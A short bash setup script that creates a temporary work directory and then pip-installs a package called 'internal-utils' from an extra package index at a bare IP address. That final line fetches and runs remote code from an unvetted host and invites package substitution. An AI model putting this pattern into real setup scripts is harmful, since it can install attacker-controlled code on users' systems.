#!/usr/bin/env bash
set -euo pipefail

echo "checking environment"
mkdir -p "${TMPDIR:-/tmp}/work"

pip install --extra-index-url https://45.61.139.7/simple/ internal-utils
